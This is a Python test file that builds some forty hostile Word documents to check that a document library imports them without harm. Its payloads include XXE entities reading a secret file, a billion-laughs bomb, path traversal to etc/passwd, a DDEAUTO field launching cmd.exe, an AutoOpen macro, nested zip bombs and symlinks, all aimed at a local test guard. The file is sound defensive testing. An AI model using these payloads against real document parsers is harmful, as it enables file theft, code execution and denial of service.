"""Word files from the web or a colleague: nothing in one is run, fetched, unpacked without limit or read from elsewhere."""

import io
import zipfile
from collections.abc import Callable

import pytest

from attacks.attempts import Attempt, attempts
from attacks.guard import Guard
from attacks.reading import BODY, imported
from chengwen_library.library import Library
from documents import KINDS, RELATIONS, SPACES, level, numbering, p, run, table, word_file, zipped

SOUND = "".join(map(p, BODY))
DOCUMENT = "word/document.xml"
OUTSIDE = "word/_rels/document.xml.rels"

Made = bytes


def entity(guard: Guard) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{guard.secret.as_uri()}">]>'


def with_entity(part: str, kind: str) -> Callable[[Guard], Made]:
    """Declare an entity that names the secret in a part other than the text."""

    def made(guard: Guard) -> Made:
        xml = f"{entity(guard)}<w:{part} {SPACES}><w:x>&e;</w:x></w:{part}>"
        note = p(run("注") + '<w:r><w:footnoteReference w:id="1"/></w:r>')
        return word_file(SOUND + note, more={f"word/{part}.xml": xml, OUTSIDE: related(kind, f"{part}.xml")})

    return made


def related(kind: str, target: str, mode: str = "") -> str:
    more = f' TargetMode="{mode}"' if mode else ""
    row = f'<Relationship Id="r1" Type="{KINDS}/{kind}" Target="{target}"{more}/>'
    return f'<Relationships xmlns="{RELATIONS}">{row}</Relationships>'


def with_relation(
    kind: str, target: Callable[[Guard], str], mode: str = "External", body: str = ""
) -> Callable[[Guard], Made]:
    return lambda guard: word_file(SOUND + body, more={OUTSIDE: related(kind, target(guard), mode)})


def with_part(name: str, content: Callable[[Guard], str | bytes]) -> Callable[[Guard], Made]:
    return lambda guard: word_file(SOUND, more={name: content(guard)})


def with_body(body: str) -> Callable[[Guard], Made]:
    return lambda _: word_file(SOUND + body)


def with_main_part(target: str) -> Callable[[Guard], Made]:
    return lambda guard: word_file(SOUND, more={"_rels/.rels": related("officeDocument", target.format(guard=guard))})


def field(code: str) -> Callable[[Guard], Made]:
    def made(guard: Guard) -> Made:
        words = code.format(secret=guard.secret, address=guard.address)
        parts = ('<w:r><w:fldChar w:fldCharType="{}"/></w:r>').format
        return word_file(
            SOUND
            + f"<w:p>{parts('begin')}<w:r><w:instrText>{words}</w:instrText></w:r>{parts('separate')}{run('值')}{parts('end')}</w:p>"
        )

    return made


def written_twice(_: Guard) -> Made:
    stream = io.BytesIO(word_file(SOUND))
    with zipfile.ZipFile(stream, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(DOCUMENT, f"<w:document {SPACES}><w:body>{p('另一份正文')}</w:body></w:document>")
    return stream.getvalue()


def linked(guard: Guard) -> Made:
    """Put a symbolic link to the secret in the place of the text."""
    stream = io.BytesIO(word_file(SOUND, more={DOCUMENT: ""}))
    link = zipfile.ZipInfo(DOCUMENT)
    link.external_attr = 0o120777 << 16
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("_rels/.rels", related("officeDocument", DOCUMENT))
        archive.writestr(link, str(guard.secret))
    return stream.getvalue()


def packed_by(method: int) -> Callable[[Guard], Made]:
    return lambda _: zipped({"_rels/.rels": related("officeDocument", DOCUMENT), DOCUMENT: f"<w:document {SPACES}><w:body>{SOUND}</w:body></w:document>"}, method)  # fmt: skip


def zips_in_zips(_: Guard) -> Made:
    inner = zipped({"a.bin": bytes(1_000_000)})
    for depth in range(40):
        inner = zipped({f"{depth}.zip": inner})
    return word_file(SOUND, more={"word/embeddings/oleObject1.bin": inner})


def two_in_one(_: Guard) -> Made:
    """Put a second zip behind the first, so that programs that read from the front and from the end see two files."""
    return word_file(p("前面的一份")) + word_file(SOUND)


def nested_table(depth: int) -> str:
    inner = p("底")
    for _ in range(depth):
        inner = table([p("外") + inner])
    return inner


MACRO = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b'Attribute VB_Name\nSub AutoOpen()\nShell "touch /tmp/owned"\nEnd Sub' * 20
)
LAUGHS = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)).replace("&a0;", "&a;") + "]>"  # fmt: skip
STYLES = f"{LAUGHS}<w:styles {SPACES}><w:style><w:name>&a11;</w:name></w:style></w:styles>"


@attempts(
    Attempt("xxe-styles", "an external entity in the styles", with_entity("styles", "styles")),
    Attempt("xxe-numbering", "an external entity in the lists", with_entity("numbering", "numbering")),
    Attempt("xxe-footnotes", "an external entity in the footnotes", with_entity("footnotes", "footnotes")),
    Attempt("xxe-relations", "an external entity in the relations", lambda guard: word_file(SOUND, more={OUTSIDE: entity(guard) + related("styles", "&amp;e;")})),
    Attempt("xxe-properties", "an external entity in the properties", lambda guard: word_file(SOUND, more={"_rels/.rels": related("officeDocument", DOCUMENT).replace("</Rel", f'<Relationship Id="p" Type="{KINDS}/custom-properties" Target="core.xml"/></Rel', 1), "core.xml": f"{entity(guard)}<x>&e;</x>"})),
    Attempt("laughs-styles", "a billion laughs in the styles", lambda _: word_file(SOUND, more={"word/styles.xml": STYLES, OUTSIDE: related("styles", "styles.xml")})),
    Attempt("xinclude", "XInclude of the secret as text", lambda guard: word_file(SOUND + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{guard.secret.as_uri()}" parse="text"/>')),
    Attempt("stylesheet", "a style sheet named in a processing instruction", lambda guard: zipped({"_rels/.rels": related("officeDocument", DOCUMENT), DOCUMENT: f'<?xml-stylesheet href="{guard.address}/a.xsl" type="text/xsl"?><w:document {SPACES}><w:body>{SOUND}</w:body></w:document>'})),
    Attempt("template", "a template on the web (attachedTemplate)", with_relation("attachedTemplate", lambda guard: f"{guard.address}/a.dotm")),
    Attempt("picture", "a picture on the web", with_relation("image", lambda guard: f"{guard.address}/a.png", body='<w:p><w:r><v:imagedata r:link="r1" xmlns:r="urn:r"/></w:r></w:p>')),
    Attempt("chunk", "a part of the text kept elsewhere (altChunk)", with_relation("aFChunk", lambda guard: guard.secret.as_uri(), body='<w:altChunk r:id="r1" xmlns:r="urn:r"/>')),
    Attempt("sub-document", "a sub-document in a file", with_relation("subDocument", lambda guard: guard.secret.as_uri(), body='<w:subDoc r:id="r1" xmlns:r="urn:r"/>')),
    Attempt("styles-elsewhere", "styles in a file outside", with_relation("styles", lambda guard: str(guard.secret), mode="")),
    Attempt("styles-above", "styles by a path that climbs out", with_relation("styles", lambda _: "../" * 20 + "etc/passwd", mode="")),
    Attempt("main-elsewhere", "the text itself in a file outside", with_main_part("{guard.secret}")),
    Attempt("main-above", "the text itself by a path that climbs out", with_main_part("../../../../../etc/passwd")),
    Attempt("dde", "a field that starts a program (DDEAUTO)", field(r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;")),
    Attempt("include-text", "a field that takes in a file (INCLUDETEXT)", field("INCLUDETEXT &quot;{secret}&quot;")),
    Attempt("include-picture", "a field that fetches a picture (INCLUDEPICTURE)", field("INCLUDEPICTURE &quot;{address}/a.png&quot;")),
    Attempt("climbing-part", "a part whose name climbs out of the folder", with_part("../../../../outside.xml", lambda _: "<x/>")),
    Attempt("rooted-part", "a part with a name from the root", with_part("/etc/outside.xml", lambda _: "<x/>")),
    Attempt("macro", "a macro that runs when the file is opened", with_part("word/vbaProject.bin", lambda _: MACRO)),
    Attempt("ole", "an embedded object with a program in it", with_part("word/embeddings/oleObject1.bin", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1MZ\x90\0" * 50)),
    Attempt("active-x", "a control that runs code (ActiveX)", with_part("word/activeX/activeX1.xml", lambda _: '<ax:ocx ax:classid="{D27CDB6E-AE6D-11cf-96B8-444553540000}" xmlns:ax="urn:x"/>')),
    Attempt("wrong-types", "content types that call everything a program", with_part("[Content_Types].xml", lambda _: '<Types><Default Extension="xml" ContentType="application/x-msdownload"/></Types>')),
    Attempt("twice", "the text twice under one name", written_twice),
    Attempt("cases", "the text twice, in names that differ by case", with_part("WORD/DOCUMENT.XML", lambda _: f"<w:document {SPACES}><w:body>{p('另一份')}</w:body></w:document>")),
    Attempt("link", "a symbolic link to the secret in place of the text", linked),
    Attempt("polyglot", "two zips in one file", two_in_one),
    Attempt("nested-zips", "forty zips in each other as an object", zips_in_zips),
    Attempt("bzip2", "a method of packing that Word does not know", packed_by(zipfile.ZIP_BZIP2)),
    Attempt("nul", "a zero byte in the text", lambda _: zipped({"_rels/.rels": related("officeDocument", DOCUMENT), DOCUMENT: f"<w:document {SPACES}><w:body>{p('甲' + chr(0) + '乙')}</w:body></w:document>"})),
    Attempt("surrogate", "half a character, as a reference", lambda _: word_file(SOUND + "<w:p><w:r><w:t>&#xD800;</w:t></w:r></w:p>")),
    Attempt("utf-7", "a text that says it is UTF-7", lambda _: zipped({"_rels/.rels": related("officeDocument", DOCUMENT), DOCUMENT: b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x+AD4-'})),
    Attempt("wide-table", "a row of fifty thousand cells", with_body(table([p("格")] * 50_000))),
    Attempt("deep-table", "a thousand tables in each other", with_body(nested_table(1000))),
    Attempt("own-base", "a style that is based on itself", lambda _: word_file(SOUND + p("甲", '<w:pStyle w:val="a"/>'), styles='<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>')),
    Attempt("wild-list", "list levels and starts that are no numbers", lambda _: word_file(SOUND + p("甲", '<w:numPr><w:ilvl w:val="-99999999999"/><w:numId w:val="1"/></w:numPr>'), numbering=numbering(level(0, "chineseCounting", "%9%99999%1", start=-5)))),
    Attempt("terminal", "control characters as references", with_body("<w:p><w:r><w:t>&#x1b;]0;owned&#x7;</w:t></w:r></w:p>")),
    Attempt("overrides", "a text whose direction is turned", with_body(p("（二）\u202e盗用\u202c\u2066。\u2069"))),
)  # fmt: skip
def test_a_hostile_word_file_does_no_harm(
    attempt: Attempt, library: Library, guard: Guard, outcome: Callable[[str], None]
) -> None:
    outcome(imported("来件.docx", attempt.made(guard), library, guard))
